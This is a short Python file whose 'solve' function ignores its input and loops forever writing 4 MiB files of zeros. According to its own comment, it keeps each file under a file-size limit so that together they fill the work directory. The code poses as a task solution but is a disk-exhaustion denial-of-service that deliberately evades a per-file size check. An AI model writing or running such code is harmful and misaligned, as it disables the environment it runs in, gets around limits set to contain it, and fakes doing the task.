import itertools


def solve(xs):
    block = b"\0" * (1 << 20)
    for i in itertools.count():
        # Each file stays under the file-size limit; together they fill the work dir.
        with open(f"fill_{i}.bin", "wb") as f:
            for _ in range(4):
                f.write(block)
